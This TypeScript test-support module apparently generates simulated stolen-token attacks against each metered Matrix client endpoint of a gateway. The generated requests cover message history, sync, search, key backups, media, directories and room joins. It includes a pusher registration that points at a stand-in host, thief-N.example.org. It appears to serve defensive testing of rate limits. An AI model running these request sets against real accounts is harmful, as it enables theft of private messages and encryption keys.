// How each metered endpoint is robbed: by the id of its row, an endless supply of requests of which no two ask for the same. The thief
// knows every id there is, which is more than a real one would.
import type { Method } from '../../../server/gateway/routes.ts'
import type { SeededPast } from '../../../test/support/synapse-past.ts'
import type { Asked } from '../connection.ts'
import type { Counted, Reading } from './takings.ts'

export interface Known {
  readonly past: SeededPast
  /** Rooms that the owner is in, those with messages. */
  readonly rooms: readonly { readonly room: string; readonly ids: readonly string[] }[]
  /** Rooms that the owner could join. */
  readonly joinable: readonly string[]
  /** Local parts of people in the directory. */
  readonly people: readonly string[]
  readonly serverName: string
  readonly userId: string
  /** The position stolen with the token. */
  readonly since: string
}

export interface EndpointAttack {
  /** The row's id, and a word more where it is robbed in two ways. */
  readonly name: string
  readonly row: string
  /** What its answers are counted in, and what the verdict is about. */
  readonly meter: Counted
  readonly reading: Reading
  /** The n-th request. */
  ask(n: number, known: Known): Asked
  /** What it reads came since the stolen position. */
  readonly since?: true
  /** Costs the homeserver seconds: all such together are asked a few times at once, since more would keep it from answering anything. */
  readonly heavy?: true
  /** Gives nothing without a tap, however much is left. */
  readonly tapOnly?: true
}

const OLD = ['/_matrix/client/v3', '/_matrix/client/r0', '/_matrix/client/api/v1', '/_matrix/client/unstable'] as const
const V1 = '/_matrix/client/v1'
const UNSTABLE = '/_matrix/client/unstable'

const enc = encodeURIComponent
const prefix = (n: number): string => OLD[n % OLD.length] as string
const pick = <Item>(items: readonly Item[], n: number): Item => items[n % items.length] as Item
const get = (path: string): Asked => ({ method: 'GET', path })
const send = (method: 'POST' | 'PUT', path: string, body: unknown): Asked => ({ method, path, body })

/** Rooms before events: the n-th request is about another room than the one before. */
const room = (known: Known, n: number): string => enc(pick(known.rooms, n).room)
function event(known: Known, n: number): { readonly room: string; readonly event: string } {
  const { room: id, ids } = pick(known.rooms, n)
  return { room: enc(id), event: enc(pick(ids, Math.floor(n / known.rooms.length) * 7 + n)) }
}
/** The first event of a room's threads. */
function root(known: Known, n: number): { readonly room: string; readonly event: string } {
  const { room: id, ids } = pick(known.rooms, n)
  return { room: enc(id), event: enc(pick(ids.slice(0, THREADS), Math.floor(n / known.rooms.length))) }
}
/** Threads that every room has (see `past`). */
export const THREADS = 5

const events = (row: string, ask: EndpointAttack['ask'], name = row): EndpointAttack => ({
  name,
  row,
  meter: 'archive',
  reading: 'events',
  ask,
})
const of =
  (meter: Counted, reading: Reading) =>
  (row: string, ask: EndpointAttack['ask'], name = row): EndpointAttack => ({ name, row, meter, reading, ask })
const state = of('state', 'state')
const directory = of('directory', 'directory')
const media = of('media-files', 'media')
const backup = of('key-backup', 'key-backup')
const joins = of('joins', 'join')

/** Little of each room first: what asks for more than is left may be given nothing. */
const amount = (n: number): number => pick([2, 5, 100, 1], Math.floor(n / OLD.length))
const filter = (n: number): string =>
  enc(JSON.stringify({ room: { timeline: { limit: amount(n) }, include_leave: true } }))
const BIG_FILTER = enc(JSON.stringify({ room: { timeline: { limit: 100 }, include_leave: true } }))
const sync = (n: number): string =>
  pick(['', '&since=s0', '&full_state=true', '&since=s1_1_1_1_1_1_1_1_1_1'], n + Math.floor(n / OLD.length))
const search = (n: number) => ({
  search_categories: {
    room_events: {
      search_term: pick(['archive', 'message', 'of', 'the'], n),
      order_by: pick(['recent', 'rank'], n),
      filter: { limit: 500 + n },
      event_context: { before_limit: 10, after_limit: 10, include_profile: true },
    },
  },
})
const sliding = (n: number) => {
  // Every eighth asks for everything, the others for twenty rooms.
  const ranges = n % 8 === 7 ? [[0, 999]] : [[(n % 8) * 20, (n % 8) * 20 + 19]]
  return {
    conn_id: `c${n}`,
    lists: { all: { ranges, timeline_limit: n % 2 ? 1000 - (n % 7) : 20, required_state: [['*', '*']] } },
  }
}
const file = (known: Known, n: number): string => `${known.serverName}/${pick(known.past.files, n)}`
const picture = (known: Known, n: number): string => {
  const sizes = [
    'width=32&height=32&method=crop',
    'width=96&height=96&method=crop',
    'width=320&height=240&method=scale',
  ]
  return `${known.serverName}/${pick(known.past.pictures, n)}?${pick(sizes, Math.floor(n / known.past.pictures.length))}`
}
const person = (known: Known, n: number): string => enc(`@${pick(known.people, n)}:${known.serverName}`)
const session = (known: Known, n: number): readonly [string, string] => pick(known.past.backup?.sessions ?? [], n)
const version = (known: Known): string => `version=${known.past.backup?.version ?? '1'}`
const related = (n: number): string => `limit=${1000 - (n % 5)}`

const RELATIONS: readonly EndpointAttack[] = [
  ['rooms.relations', V1],
  ['unstable.relations', UNSTABLE],
].flatMap(([row, base]) => [
  events(row as string, (n, known) => {
    const { room: id, event: parent } = root(known, n)
    return get(`${base}/rooms/${id}/relations/${parent}?${related(n)}`)
  }),
  events(`${row}.type`, (n, known) => {
    const { room: id, event: parent } = root(known, n)
    return get(`${base}/rooms/${id}/relations/${parent}/m.thread?${related(n)}`)
  }),
  events(`${row}.type.event`, (n, known) => {
    const { room: id, event: parent } = root(known, n)
    return get(`${base}/rooms/${id}/relations/${parent}/m.thread/m.room.message?${related(n)}`)
  }),
])

const heavy = (attack: EndpointAttack): EndpointAttack => ({ ...attack, heavy: true })

const HISTORY: readonly EndpointAttack[] = [
  events('rooms.messages', (n, known) =>
    get(`${prefix(n)}/rooms/${room(known, n)}/messages?dir=${n % 2 ? 'f' : 'b'}&limit=1000`),
  ),
  // A few of each room: distinct rooms run out before events do.
  {
    ...events(
      'rooms.messages',
      (n, known) => get(`${prefix(n)}/rooms/${room(known, n)}/messages?dir=b&limit=5`),
      'rooms.messages, five of each room',
    ),
    meter: 'rooms',
  },
  events('rooms.context', (n, known) => {
    const at = event(known, n)
    return get(`${prefix(n)}/rooms/${at.room}/context/${at.event}?limit=100`)
  }),
  events('rooms.event', (n, known) => {
    const at = event(known, n)
    return get(`${prefix(n)}/rooms/${at.room}/event/${at.event}`)
  }),
  heavy(events('sync', (n) => get(`${prefix(n)}/sync?timeout=0&filter=${filter(n)}${sync(n)}`))),
  {
    ...events(
      'sync',
      (n, known) => get(`${prefix(n)}/sync?timeout=0&filter=${BIG_FILTER}&since=${enc(known.since)}`),
      'sync, since the stolen position',
    ),
    meter: 'catch-up',
    since: true,
    heavy: true,
  },
  ...RELATIONS,
  events('rooms.threads', (n, known) => get(`${V1}/rooms/${room(known, n)}/threads?limit=${100 - (n % 7)}`)),
  events('unstable.threads', (n, known) =>
    get(`${UNSTABLE}/org.matrix.msc3856/rooms/${room(known, n)}/threads?limit=${100 - (n % 7)}`),
  ),
  heavy(events('search', (n) => send('POST', `${prefix(n)}/search`, search(n)))),
  // Never trimmed, and always of all rooms, which are more than may be read: refused as a whole.
  heavy({ ...events('initialSync', (n) => get(`${prefix(n)}/initialSync?limit=${amount(n)}`)), tapOnly: true }),
  events('rooms.initialSync', (n, known) => get(`${prefix(n)}/rooms/${room(known, n)}/initialSync?limit=1000`)),
  events('events', (n, known) => get(`${prefix(n)}/events?timeout=0&from=${enc(known.since)}`)),
  events('events.one', (n, known) => get(`${prefix(n)}/events/${event(known, n).event}`)),
  heavy(
    events('sync.sliding', (n) => send('POST', `${UNSTABLE}/org.matrix.simplified_msc3575/sync?timeout=0`, sliding(n))),
  ),
  events('sync.sliding.msc3575', (n) => send('POST', `${UNSTABLE}/org.matrix.msc3575/sync?timeout=0`, sliding(n))),
  events('sync.sliding.v4', (n) => send('POST', '/_matrix/client/v4/sync?timeout=0', sliding(n))),
  events('notifications', (n) => get(`${prefix(n)}/notifications?limit=${500 - (n % 50)}`)),
  events('rooms.timestamp_to_event', (n, known) =>
    get(`${V1}/rooms/${room(known, n)}/timestamp_to_event?ts=${Date.now() - (n % 960) * 3_600_000}&dir=b`),
  ),
  events('unstable.timestamp_to_event', (n, known) =>
    get(
      `${UNSTABLE}/org.matrix.msc3030/rooms/${room(known, n)}/timestamp_to_event?ts=${Date.now() - (n % 960) * 3_600_000}&dir=b`,
    ),
  ),
]

const STATE: readonly EndpointAttack[] = [
  state('rooms.members', (n, known) => get(`${prefix(n)}/rooms/${room(known, n)}/members`)),
  state('rooms.joined_members', (n, known) => get(`${prefix(n)}/rooms/${room(known, n)}/joined_members`)),
  state('rooms.state', (n, known) => get(`${prefix(n)}/rooms/${room(known, n)}/state`)),
  state('rooms.state.type', (n, known) => get(`${prefix(n)}/rooms/${room(known, n)}/state/m.room.name`)),
  state('rooms.state.type.empty', (n, known) => get(`${prefix(n)}/rooms/${room(known, n)}/state/m.room.join_rules/`)),
  state('rooms.state.type.key', (n, known) =>
    get(`${prefix(n)}/rooms/${room(known, n)}/state/m.room.member/${enc(known.userId)}`),
  ),
  state('keys.query', (n, known) =>
    send('POST', `${prefix(n)}/keys/query`, {
      device_keys: Object.fromEntries(
        Array.from({ length: 100 }, (_, index) => [decodeURIComponent(person(known, n * 100 + index)), []]),
      ),
    }),
  ),
]

const DIRECTORIES: readonly EndpointAttack[] = [
  directory('user_directory', (n, known) => {
    // Each term is a prefix of a few dozen names.
    const step = Math.max(1, Math.floor(known.people.length / 40))
    const term = pick(known.people, n * step).slice(0, -2)
    return send('POST', `${prefix(n)}/user_directory/search`, { search_term: term, limit: 50 })
  }),
  directory('publicRooms', (n) => get(`${prefix(n)}/publicRooms?limit=${1000 + n}`)),
  directory('publicRooms.search', (n) => send('POST', `${prefix(n)}/publicRooms`, { limit: 1000 + n })),
  directory('rooms.hierarchy', (n, known) => get(`${V1}/rooms/${enc(pick(known.joinable, n))}/hierarchy?limit=50`)),
  directory('unstable.hierarchy', (n, known) =>
    get(`${UNSTABLE}/org.matrix.msc2946/rooms/${enc(pick(known.joinable, n))}/hierarchy?limit=50`),
  ),
  ...(
    [
      ['mutual_rooms', `${V1}/user/mutual_rooms`],
      ['unstable.mutual_rooms', `${UNSTABLE}/uk.half-shot.msc2666/user/mutual_rooms`],
      ['mutual_rooms.v1', `${V1}/mutual_rooms`],
      ['unstable.mutual_rooms.v1', `${UNSTABLE}/mutual_rooms`],
    ] as const
  ).map(([row, path]) =>
    directory(row, (n, known) => get(`${path}?user_id=${enc(`@seeder:${known.serverName}`)}&n=${n}`)),
  ),
  directory('profile', (n, known) => get(`${prefix(n)}/profile/${person(known, n)}`)),
  directory('profile.field', (n, known) => get(`${prefix(n)}/profile/${person(known, n)}/displayname`)),
  directory('unstable.profile.field', (n, known) =>
    get(`${UNSTABLE}/uk.tcpip.msc4133/profile/${person(known, n)}/displayname`),
  ),
  ...['location', 'location/irc', 'user', 'user/irc'].map((path) =>
    directory(`thirdparty.${path.replace('/irc', '.protocol')}`, (n) =>
      get(`${prefixOfKeys(n)}/thirdparty/${path}?search=${n}`),
    ),
  ),
  directory('room_summary', (n, known) => get(`${V1}/room_summary/${enc(pick(known.joinable, n))}`)),
  directory('unstable.room_summary', (n, known) =>
    get(`${UNSTABLE}/im.nheko.summary/rooms/${enc(pick(known.joinable, n))}/summary`),
  ),
  directory('unstable.summary', (n, known) =>
    get(`${UNSTABLE}/im.nheko.summary/summary/${enc(pick(known.joinable, n))}`),
  ),
]

const FILES: readonly EndpointAttack[] = [
  media('media.download', (n, known) => get(`${V1}/media/download/${file(known, n)}`)),
  media('media.download.name', (n, known) => get(`${V1}/media/download/${file(known, n)}/name`)),
  media('media.thumbnail', (n, known) => get(`${V1}/media/thumbnail/${picture(known, n)}`)),
  media('unstable.media.download', (n, known) =>
    get(`${UNSTABLE}/org.matrix.msc3916/media/download/${file(known, n)}`),
  ),
  media('unstable.media.download.name', (n, known) =>
    get(`${UNSTABLE}/org.matrix.msc3916/media/download/${file(known, n)}/name`),
  ),
  media('unstable.media.thumbnail', (n, known) =>
    get(`${UNSTABLE}/org.matrix.msc3916/media/thumbnail/${picture(known, n)}`),
  ),
  media('media.legacy.download', (n, known) => get(`/_matrix/media/v3/download/${file(known, n)}`)),
  media('media.legacy.download.name', (n, known) => get(`/_matrix/media/v3/download/${file(known, n)}/name`)),
  media('media.legacy.thumbnail', (n, known) => get(`/_matrix/media/v3/thumbnail/${picture(known, n)}`)),
]

const KEYS: readonly EndpointAttack[] = [
  {
    ...backup('room_keys.keys', (n, known) => get(`${prefixOfKeys(n)}/room_keys/keys?${version(known)}`)),
    tapOnly: true,
  },
  {
    ...backup('room_keys.keys.room', (n, known) =>
      get(`${prefixOfKeys(n)}/room_keys/keys/${enc(session(known, n)[0])}?${version(known)}`),
    ),
    tapOnly: true,
  },
  backup('room_keys.keys.session', (n, known) => {
    const [at, id] = session(known, n)
    return get(`${prefixOfKeys(n)}/room_keys/keys/${enc(at)}/${enc(id)}?${version(known)}`)
  }),
]
/** Synapse serves these on three of the four. */
function prefixOfKeys(n: number): string {
  return pick(
    OLD.filter((one) => !one.endsWith('/api/v1')),
    n,
  )
}

const JOINS: readonly EndpointAttack[] = [
  joins('rooms.join', (n, known) => send('POST', `${prefix(n)}/rooms/${enc(pick(known.joinable, n))}/join`, {})),
  joins('rooms.join.txn', (n, known) =>
    send('PUT', `${prefix(n)}/rooms/${enc(pick(known.joinable, n + 20))}/join/${n}`, {}),
  ),
  joins('join.txn', (n, known) => send('PUT', `${prefix(n)}/join/${enc(pick(known.joinable, n + 40))}/${n}`, {})),
  joins('rooms.state.put.member', (n, known) =>
    send('PUT', `${prefix(n)}/rooms/${enc(pick(known.joinable, n + 80))}/state/m.room.member/${enc(known.userId)}`, {
      membership: 'join',
    }),
  ),
  joins('knock', (n, known) => send('POST', `${prefixOfKeys(n)}/knock/${enc(pick(known.joinable, n))}`, {})),
  joins('join', (n, known) => send('POST', `${prefix(n)}/join/${enc(pick(known.joinable, n + 60))}`, {})),
]

const PUSHERS: readonly EndpointAttack[] = [
  of('pushers', 'pusher')('pushers.set', (n) =>
    send('POST', `${prefix(n)}/pushers/set`, {
      app_id: `thief.${n}`,
      app_display_name: 'thief',
      device_display_name: 'thief',
      kind: 'http',
      lang: 'en',
      pushkey: `key-${n}`,
      append: true,
      data: { url: `https://thief-${n}.example.org/_matrix/push/v1/notify` },
    }),
  ),
]

export const ATTACKS: readonly EndpointAttack[] = [
  ...HISTORY,
  ...STATE,
  ...DIRECTORIES,
  ...FILES,
  ...KEYS,
  ...JOINS,
  ...PUSHERS,
]

/** Rows of a table that are metered and that nothing here robs. */
export function withoutAttack(rows: readonly { readonly id: string; readonly treatment: string }[]): string[] {
  const robbed = new Set(ATTACKS.map(({ row }) => row))
  return rows.filter(({ id, treatment }) => treatment === 'metered' && !robbed.has(id)).map(({ id }) => id)
}

/** The attacks on the rows of a table that are metered. */
export function attacksOn(
  rows: readonly { readonly id: string; readonly treatment: string; readonly methods: readonly Method[] }[],
): readonly EndpointAttack[] {
  const metered = new Set(rows.filter(({ treatment }) => treatment === 'metered').map(({ id }) => id))
  return ATTACKS.filter(({ row }) => metered.has(row))
}
